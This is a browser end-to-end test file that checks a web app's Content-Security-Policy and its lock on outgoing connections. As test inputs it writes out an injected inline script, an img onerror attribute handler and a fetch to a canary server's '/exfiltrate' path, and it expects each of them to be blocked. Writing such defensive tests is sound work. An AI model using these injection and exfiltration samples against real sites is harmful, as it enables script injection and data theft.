/**
 * The app's own Content-Security-Policy, as an attacker who got a string into the page would
 * meet it: an injected inline script or event-handler attribute does not run, and once a model
 * endpoint is chosen the page can connect nowhere else.
 */
import { afterAll, beforeAll } from 'vitest';
import { frameScriptHash } from '../../src/security/frame-hash-node.ts';
import { metaContentSecurityPolicy, securityHeaders } from '../../src/security/headers.ts';
import { openApp, openSettings } from '../e2e/app.ts';
import { allowConsoleErrors, expect, inject, test } from '../e2e/browser.ts';
import { E2E_API_KEY } from '../e2e/constants.ts';
import { startCanary, type Canary } from './canary-server.ts';

let canary: Canary;
beforeAll(async () => {
  canary = await startCanary();
});
afterAll(async () => {
  await canary.close();
});

test('the app is served with its CSP and hardening headers', async ({ page }) => {
  const response = await page.goto(`${inject('baseUrl')}/`);
  const got = response?.headers() ?? {};
  for (const [name, value] of Object.entries(securityHeaders(frameScriptHash()))) {
    expect(got[name.toLowerCase()], name).toBe(value);
  }
  await page.getByTestId('scenario-picker').waitFor();
  expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
  // The page carries the policy itself too (a static host that ignores _headers), frame-ancestors aside.
  const meta = await page.evaluate(() => document.querySelector('meta[http-equiv="Content-Security-Policy"]:not([data-connect-lock])')?.getAttribute('content'));
  expect(meta).toBe(metaContentSecurityPolicy(frameScriptHash()));
});

// (eval cannot be tried from here: code run through the DevTools protocol is exempt from CSP;
// test/security/headers.test.ts checks the policy has no 'unsafe-eval'.)
test('an injected inline script or event-handler attribute is refused', async ({ page }) => {
  allowConsoleErrors(page, /Content Security Policy/);
  await openApp(page);
  const violations = await page.evaluate(async () => {
    const seen: string[] = [];
    document.addEventListener('securitypolicyviolation', (e) => seen.push(`${e.effectiveDirective} ${e.blockedURI}`));
    const w = window as unknown as Record<string, unknown>;
    const script = document.createElement('script');
    script.textContent = 'window.__pwnedInline = true;';
    document.head.appendChild(script);
    document.body.insertAdjacentHTML('beforeend', '<img alt="" src="x-broken:" onerror="window.__pwnedAttr = true">');
    // Violations are reported asynchronously, and others may come first (the broken image's own
    // img-src report): wait for both of ours (or give up after 200 frames).
    const both = () => ['script-src-elem', 'script-src-attr'].every((d) => seen.some((v) => v.startsWith(`${d} `)));
    for (let i = 0; i < 200 && !both(); i++) await new Promise((r) => requestAnimationFrame(r));
    return { inline: w.__pwnedInline, attr: w.__pwnedAttr, seen };
  });
  expect(violations.inline).toBeUndefined();
  expect(violations.attr).toBeUndefined();
  expect(violations.seen.map((v) => v.split(' ')[0])).toEqual(expect.arrayContaining(['script-src-elem', 'script-src-attr']));
});

test('after the first live call the page connects only to itself and the chosen endpoint', async ({ page }) => {
  allowConsoleErrors(page, /Content Security Policy|Failed to fetch/);
  const server = inject('fakeServerUrl');
  if (!server) throw new Error(`the fake Anthropic server did not start: ${inject('fakeServerError')}`);
  await openApp(page);
  // Before any model call the header's broad connect-src applies: the page could reach the canary.
  expect(await page.locator('meta[data-connect-lock]').count()).toBe(0);

  await openSettings(page);
  await page.getByTestId('model-mode').selectOption('anthropic');
  await page.getByTestId('base-url').fill(server);
  await page.getByTestId('api-key').fill(E2E_API_KEY);
  await page.getByTestId('prompt-input').fill('Say hello.');
  await page.getByTestId('btn-send').click();
  // The model answered (its tool call asks for permission): the call went out, then the lock.
  await page.getByTestId('permission-dialog').waitFor({ timeout: 30_000 });
  expect(await page.locator('meta[data-connect-lock]').getAttribute('data-connect-lock')).toBe(new URL(server).origin);
  await page.getByTestId('btn-deny').click();

  // An attacker's script in the page now cannot send anything to another host.
  const result = await page.evaluate(async (url) => {
    try {
      return `REACHED ${(await fetch(`${url}/exfiltrate`)).status}`;
    } catch (e) {
      return `blocked ${(e as Error).name}`;
    }
  }, canary.url);
  expect(result).toBe('blocked TypeError');
  expect(canary.hits()).toEqual([]);

  // Choosing another endpoint says a reload is needed, and a live run does not start.
  await page.getByTestId('base-url').fill(canary.url);
  await expect.poll(() => page.getByTestId('connect-lock-note').textContent()).toContain('Reload the page');
  expect(canary.hits()).toEqual([]);

  // Reloading starts the page locked to the endpoint saved in live mode, before anything runs.
  await page.getByTestId('btn-reload-for-endpoint').click();
  await page.getByTestId('scenario-picker').waitFor();
  await expect.poll(() => page.locator('meta[data-connect-lock]').getAttribute('data-connect-lock')).toBe(new URL(canary.url).origin);
  expect(canary.hits()).toEqual([]);
});
